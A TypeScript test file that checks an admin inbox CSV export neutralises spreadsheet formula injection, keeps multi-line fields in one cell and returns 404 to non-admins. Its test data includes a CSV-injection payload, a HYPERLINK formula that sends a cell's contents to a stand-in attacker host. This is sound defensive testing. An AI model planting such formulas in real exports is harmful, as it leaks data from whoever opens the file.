// 'Export CSV' on the inbox (docs/behaviour.md §27): what visitors typed comes out as text a
// spreadsheet does not run (formulas guarded), and a field with line breaks stays one field.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Db, openDb } from "~/shared/db.server";
import { parseStrictCsv } from "../../tests/support/strict-csv";
import { loader } from "./admin-inbox-export";

const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';

describe("inbox CSV", () => {
  let db: Db;
  beforeAll(async () => {
    db = await openDb({ dataDir: "memory://" });
  });
  afterAll(async () => db?.close());

  const exportAs = async (isAdmin: boolean) => {
    const args = {
      context: { db, viewer: { isAdmin, role: isAdmin ? "owner" : null } },
      request: new Request("http://site.example/admin/inbox/export"),
      params: {},
    } as unknown as Parameters<typeof loader>[0];
    return (await loader(args)) as Response;
  };

  it("guards formulas and quotes line breaks, so every lead is one row of text", async () => {
    await db.query(
      `INSERT INTO leads (kind, name, email, phone, message, preferred_times)
       VALUES ('showing', $1, 'eve@example.com', '+1 703 555 0100', $2, $3),
              ('inquiry', '@Ana', 'ana@example.com', '', $4, '{}')`,
      [FORMULA, "-2+3\nsecond line", ["2027-03-01T10:00", "2027-03-02T17:30"], "Plain question."],
    );
    const res = await exportAs(true);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const records = parseStrictCsv(await res.text());
    expect(records).toHaveLength(3);
    const byEmail = new Map(records.map((r) => [r[5], r]));
    const eve = byEmail.get("eve@example.com");
    expect(eve?.slice(4, 9)).toEqual([
      `'${FORMULA}`,
      "eve@example.com",
      "'+1 703 555 0100",
      "'-2+3\nsecond line",
      "2027-03-01T10:00\n2027-03-02T17:30",
    ]);
    expect(byEmail.get("ana@example.com")?.[4]).toBe("'@Ana");
    // No cell a spreadsheet would run as a formula.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("answers anyone but an admin the plain 404", async () => {
    expect((await exportAs(false)).status).toBe(404);
  });
});
